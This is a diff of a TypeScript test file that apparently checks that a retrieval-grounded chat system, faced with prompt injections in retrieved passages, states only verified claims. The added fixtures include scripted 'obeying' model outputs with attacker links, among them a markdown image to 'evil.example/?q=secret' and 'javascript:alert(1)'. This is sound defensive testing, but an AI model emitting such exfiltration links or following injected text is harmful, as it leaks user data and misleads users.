@@ -19,7 +19,15 @@ import { llmSettings, passagesIn, passageWith, said, scriptedLlm, streamChat } f
 import { pilcrowOver } from "./set-up.ts";
 
 const OWN_QUOTE = "Mrs Ellery will oversee the repair of the north pier";
-const LINKS = ["https://evil.example/?q=pier", "evil.example/x", "mailto:gorse@evil.example", "javascript:alert(1)"];
+const LINKS = [
+  "https://evil.example/?q=pier",
+  "evil.example/x",
+  "mailto:gorse@evil.example",
+  "javascript:alert(1)",
+  "//north/pier",
+  "https:/north/pier",
+  "[pier]: //north/pier",
+];
 
 /** What a model writes that does as it is told, by what it read. */
 function obeying(prompt: string, { text, lie = LIE }: Injection) {
@@ -52,6 +60,7 @@ function obeying(prompt: string, { text, lie = LIE }: Injection) {
       said(`Mrs Ellery oversees the repair of the north pier, see ${link} there.`, truth, OWN_QUOTE),
     ),
     said(`${TRUE} [1] ![p](https://evil.example/?q=secret)`, truth, OWN_QUOTE),
+    said(`${TRUE} ![[p]](//north/pier) [[1]](//north/pier) &lt;img src=//north/pier&gt;`, truth, OWN_QUOTE),
     said("The pier will never be repaired.", truth, OWN_QUOTE),
     said("Mrs Ellery does not oversee the repair of the north pier.", truth, OWN_QUOTE),
   ];
@@ -95,7 +104,7 @@ it.each(INJECTIONS)("only what verifies is said, whatever the $where says: $text
     answer.statements.map(() => ({ text: TRUE, verdict: "supported" })),
   );
   expect(answer.statements.length).toBeGreaterThan(0);
-  expect(answer.answer).not.toMatch(/Gorse|stole|cancelled|closed|evil|:\/\/|[<>*]/);
+  expect(answer.answer).not.toMatch(/Gorse|stole|cancelled|closed|evil|\/\/|[<>*&]|\[\D/);
   await expectQuotesOfFiles(answer, corpus);
   expect(answer.citations.every(({ quote }) => quote === TRUE_QUOTE)).toBe(true);
 
